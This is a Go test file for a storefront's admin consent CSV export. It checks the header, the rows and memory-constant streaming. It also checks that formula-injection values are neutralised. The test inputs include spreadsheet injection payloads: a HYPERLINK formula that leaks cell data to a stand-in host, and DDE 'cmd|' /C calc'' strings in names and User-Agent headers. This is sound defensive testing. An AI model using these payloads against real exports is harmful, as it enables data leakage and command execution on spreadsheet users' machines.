package handlers_test

import (
	"encoding/csv"
	"errors"
	"io"
	"net/http"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"example.com/storefront/internal/pagetest"
)

// consentColumns is the export's header, as the issue lists it.
var consentColumns = []string{
	"mandate_id", "created_at", "status", "provider", "mode", "email", "name", "plan", "amount", "interval",
	"merchant", "terms_version", "terms_sha256", "authorization", "accepted_at", "client_ip", "user_agent",
	"confirmed_at", "revoked_by", "disputes",
}

// The consent export is one row per mandate with the consent evidence; a
// name or a browser string that a spreadsheet would run as a formula comes
// out as plain text.
func TestAdminConsentExport(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	active, _ := e.activeMandate("stripe")
	hostile := map[string]string{ // email → name typed into the storefront
		"hyperlink@example.com": `=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`,
		"plus@example.com":      "+1+1",
		"at@example.com":        "@SUM(1+1)*cmd|' /C calc'!A0",
		"minus@example.com":     "-2+3",
	}
	for email, name := range hostile {
		b := pagetest.NewBrowser(t)
		b.Header.Set("User-Agent", "=cmd|' /C calc'!A0")
		form := e.validForm(b)
		form.Set("email", email)
		form.Set("name", name)
		e.checkout(b, form)
	}

	resp, err := e.adminBrowser().Client.Get(e.URL + "/admin/consents.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
		!strings.HasPrefix(resp.Header.Get("Content-Disposition"), `attachment; filename="consents-`) ||
		resp.Header.Get("Cache-Control") != "no-store" {
		t.Fatalf("export answered %d %v", resp.StatusCode, resp.Header)
	}
	records, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(records[0], consentColumns) {
		t.Fatalf("header %q", records[0])
	}
	if got, want := len(records)-1, e.count(`SELECT count(*) FROM mandates`); got != want || want != 5 {
		t.Fatalf("%d rows for %d mandates", got, want)
	}
	col := func(row []string, name string) string { return row[slices.Index(consentColumns, name)] }
	seen := map[string]bool{}
	for _, row := range records[1:] {
		id := col(row, "mandate_id")
		if seen[id] {
			t.Errorf("mandate %s twice", id)
		}
		seen[id] = true
		if id == active.ID {
			c := active.Consent
			if col(row, "status") != "active" || col(row, "terms_version") != c.TermsVersion || col(row, "terms_sha256") != c.TermsSHA256 ||
				col(row, "authorization") != c.Authorization || col(row, "client_ip") != c.ClientIP || col(row, "email") != "ada@example.com" ||
				col(row, "accepted_at") != c.AcceptedAt.UTC().Format(time.RFC3339) || col(row, "confirmed_at") == "" ||
				col(row, "provider") != "stripe" || col(row, "amount") != "12.00 USD" {
				t.Errorf("the active mandate's row: %q", row)
			}
			continue
		}
		name, ok := hostile[col(row, "email")]
		if !ok {
			t.Errorf("unexpected row %q", row)
			continue
		}
		if got := col(row, "name"); got != "'"+name {
			t.Errorf("name %q exported as %q, want it neutralised", name, got)
		}
		if got := col(row, "user_agent"); got != "'=cmd|' /C calc'!A0" {
			t.Errorf("user agent exported as %q", got)
		}
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s starts a formula: %q", consentColumns[i], cell)
			}
		}
	}
}

// The export streams: its memory is the same at 100,000 mandates as at
// 1,000. While the export runs, the live heap (after a forced collection,
// every few milliseconds) is sampled and compared with the heap before it:
// at 100,000 rows the CSV is about 34 MB, and an export that held its rows
// or its output would grow by as much; streamed, it grows by about 1 MB. Under the race detector, which
// makes SQLite some fifty times slower (minutes to fill 100,000 rows), the
// second measure is at 10,000 rows; the bound is the same. Not parallel:
// other tests' allocations would blur the measure.
func TestAdminConsentExportMemoryIsConstant(t *testing.T) {
	if testing.Short() {
		t.Skip("fills 100,000 mandates")
	}
	large := 100_000
	if raceDetector {
		large = 10_000
	}
	e := newEnv(t, direct)
	admin := e.adminBrowser()
	fillMandates(t, e.DBFile, 1_000)
	rowsSmall, bytesSmall, grewSmall := exportHeap(t, e, admin)
	fillMandates(t, e.DBFile, large-1_000)
	rowsLarge, bytesLarge, grewLarge := exportHeap(t, e, admin)
	t.Logf("1,000 rows (%d kB): live heap grew %d kB; %d rows (%d kB): live heap grew %d kB",
		bytesSmall>>10, grewSmall>>10, large, bytesLarge>>10, grewLarge>>10)
	if rowsSmall != 1_000 || rowsLarge != large {
		t.Fatalf("exported %d and %d rows", rowsSmall, rowsLarge)
	}
	// Streamed, the difference is buffers and SQLite's page cache (bounded:
	// 2 MB a connection; the export reads in short pages, each on whichever
	// connection is idle, so two of the pool's may hold one), a fraction of
	// the output; held, it is more than the whole output.
	if limit := max(1<<20, uint64(bytesLarge)/10) + 2<<20; grewLarge > grewSmall+limit {
		t.Errorf("the live heap grew %d kB during an export of %d rows (%d kB) and %d kB for 1,000: the export is not streamed",
			grewLarge>>10, large, bytesLarge>>10, grewSmall>>10)
	}
}

// exportHeap downloads the export, reading it one record at a time, and
// returns the rows, the bytes and how far the live heap rose above where
// it was before.
func exportHeap(t *testing.T, e *env, admin *pagetest.Browser) (rows, size int, grew uint64) {
	t.Helper()
	live := func() uint64 {
		runtime.GC()
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		return ms.HeapAlloc
	}
	before := live()
	peak := before
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		for {
			select {
			case <-stop:
				return
			case <-time.After(2 * time.Millisecond):
				peak = max(peak, live())
			}
		}
	})
	resp, err := admin.Client.Get(e.URL + "/admin/consents.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK || resp.ContentLength != -1 {
		t.Fatalf("export: %d, Content-Length %d (want it streamed)", resp.StatusCode, resp.ContentLength)
	}
	counted := &countingReader{r: resp.Body}
	r := csv.NewReader(counted)
	r.ReuseRecord = true
	for {
		_, err := r.Read()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		rows++
	}
	close(stop)
	wg.Wait()
	return rows - 1, counted.n, peak - before
}

type countingReader struct {
	r io.Reader
	n int
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}
